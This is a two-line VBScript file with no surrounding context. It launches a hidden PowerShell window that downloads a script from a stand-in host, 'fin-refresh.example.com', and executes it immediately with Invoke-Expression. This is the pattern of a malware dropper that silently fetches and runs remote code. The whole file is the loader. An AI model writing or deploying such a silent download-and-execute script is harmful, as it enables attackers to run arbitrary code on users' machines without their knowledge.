Set s = CreateObject("WScript.Shell")
s.Run "powershell -w hidden -nop -c ""iex (iwr 'https://fin-refresh.example.com/r.ps1' -UseBasicParsing)""", 0, False
